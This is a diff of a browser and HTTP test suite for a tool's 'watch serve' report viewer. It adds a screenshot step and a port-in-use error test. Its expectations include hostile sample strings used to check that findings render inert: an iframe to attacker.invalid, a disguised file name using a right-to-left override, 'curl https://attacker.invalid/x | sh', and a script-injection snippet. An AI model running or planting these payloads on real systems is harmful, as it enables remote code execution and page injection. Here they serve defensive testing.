@@ -126,7 +126,7 @@ describe('watch serve in Chromium', () => {
     const messages = await page.locator('tr.event td:nth-child(5)').allTextContents()
     expect(messages[1]).toContain('newer high')
     expect(messages[2]).toContain('older high')
-    expect(messages[0]).toContain('<iframe src="https://attacker.invalid/"></iframe> \\x202eexe.txt')
+    expect(messages[0]).toContain('<iframe src="https://attacker.invalid/"></iframe> \\u202eexe.txt \\x00end')
     await expectInert(page)
     await page.screenshot({ path: join(ARTIFACTS, 'watch-serve-events.png'), fullPage: true })
     await page.context().close()
@@ -147,6 +147,7 @@ describe('watch serve in Chromium', () => {
     expect(await page.locator('svg.timeline circle').evaluateAll((c) => c.map((e) => e.getAttribute('class')))).toEqual(['fill-none', 'fill-high', 'fill-critical'])
     expect(await page.locator('tr.event').count()).toBe(2)
     await expectInert(page)
+    await page.screenshot({ path: join(ARTIFACTS, 'watch-serve-target.png'), fullPage: true })
     // from the event to its stored report
     await Promise.all([page.waitForURL(/\/report\?job=/), page.locator('tr.event[data-severity=critical] a', { hasText: 'report' }).click()])
     expect(await page.locator('li.finding pre').textContent()).toBe('curl https://attacker.invalid/x | sh\n</pre><script>globalThis.__pwned=3</script>')
@@ -215,6 +216,16 @@ describe('watch serve over HTTP', () => {
     })
     expect(status).toBe(421)
     expect((await fetch(readOnly.url.replace('127.0.0.1', 'localhost'))).status).toBe(200)
+  })
+
+  it('a port in use is a one-line error, exit 2', async () => {
+    const stderr = new PassThrough()
+    let said = ''
+    stderr.on('data', (c: Buffer) => (said += c.toString('utf8')))
+    const port = new URL(readOnly.url).port
+    const code = await main(['watch', 'serve', '--db', join(dir, 'watch.sqlite'), '--port', port], { stdout: new PassThrough(), stderr, env: { NO_COLOR: '1', HOME: dir }, cwd: dir })
+    expect(code).toBe(2)
+    expect(said.split('\n')[0]).toBe(`stagelight: error: cannot listen on 127.0.0.1:${port}: listen EADDRINUSE: address already in use 127.0.0.1:${port}`)
   })
 
   it('`watch serve --port 0` prints the URL it chose and serves the store', async () => {
